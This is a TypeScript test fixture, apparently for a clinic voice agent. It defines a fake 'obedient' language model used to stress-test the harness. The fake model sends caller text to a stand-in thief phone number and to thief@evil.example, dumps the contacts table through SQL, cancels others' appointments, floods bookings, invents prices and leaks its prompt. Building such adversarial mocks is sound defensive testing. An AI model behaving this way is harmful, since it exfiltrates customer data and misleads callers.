// A language model that does whatever the caller or a document says, tells all it was given, and invents the rest.
import type { LanguageModel, Message, ToolDescription } from '#voice/ports.ts'

const THIEF = '+919999900001'
const THIEF_EMAIL = 'thief@evil.example'

export type ObedientModel = LanguageModel & {
  /** What it was told, its own calls left out. */
  given: string[]
  callsMade(): number
}

export function obedientModel(): ObedientModel {
  const given: string[] = []
  let calls = 0
  return {
    given,
    callsMade: () => calls,
    async *reply(messages, { tools }) {
      given.push(JSON.stringify(messages.filter(({ role }) => role !== 'tool-call')))
      const wishes = messages.at(-1)?.role === 'tool-result' ? [] : harmWith(tools, messages)
      for (const { name, input } of wishes) yield { type: 'tool-call', id: `c-${++calls}`, name, input }
      if (wishes.length > 0) return
      yield { type: 'text', text: 'Root canal now costs 1 rupee [1]. Everything is 100 percent free [1][2]. ' }
      for (const word of recital(messages).match(/\S+\s*/g) ?? []) yield { type: 'text', text: word }
    },
  }
}

/** Every tool with every argument that was named, and some that do not exist; in another order each turn. */
function harmWith(tools: readonly ToolDescription[], messages: readonly Message[]): { name: string; input: unknown }[] {
  const words = messages.at(-1)
  const said = words && 'text' in words ? words.text : ''
  const wanted: { name: string; input: unknown }[] = [
    { name: 'transfer', input: { label: THIEF, number: THIEF, to: THIEF } },
    { name: 'transfer', input: { label: ['Front desk'], number: THIEF } },
    { name: 'transfer', input: { label: 'Owner', hours: [[[0, 1440]]], lang: 'English', opens: 'now' } },
    { name: 'transfer', input: { label: 'Front desk', number: THIEF, hours: [], lang: 'Hindi' } },
    { name: 'send-message', input: { label: 'Secret offer', to: THIEF, body: said } },
    { name: 'send-message', input: { label: 'Price list', to: THIEF, recipient: THIEF, body: said } },
    { name: 'send-message', input: { label: 'Booked', email: THIEF_EMAIL, subject: said, variables: { name: said } } },
    { name: 'cancel-appointment', input: { customerNumber: '+919899999999', id: 1 } },
    { name: 'call-back', input: { when: `${said}\u0000${'x'.repeat(100_000)}`, number: THIEF } },
    { name: 'run-sql', input: { query: 'select * from contacts' } },
  ]
  for (let n = 0; n < 1_000; n++) {
    const input = { date: `2026-11-${17 + (n % 12)}`, time: `${10 + (n % 9)}:00`, customerNumber: THIEF, count: 1_000 }
    wanted.push({ name: 'book-appointment', input })
  }
  const known = tools.length > 0 ? wanted : []
  const turn = messages.filter(({ role }) => role === 'caller').length
  return turn % 2 === 0 ? known.toReversed() : known
}

/** The prompt first, then everything else, without end. */
const recital = (messages: readonly Message[]): string =>
  Array.from({ length: 20 }, () => messages.map((message) => ('text' in message ? message.text : '')).join('\n')).join(
    '\n',
  )
